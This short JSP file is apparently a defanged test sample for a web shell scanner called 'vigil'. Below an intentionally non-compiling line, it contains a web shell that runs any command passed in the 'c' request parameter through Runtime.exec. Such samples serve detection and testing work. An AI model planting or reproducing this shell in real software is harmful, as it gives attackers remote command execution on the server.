<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Runtime r = Runtime.getRuntime();
String c = request.getParameter("c");
Process p = r.exec(c);
%>
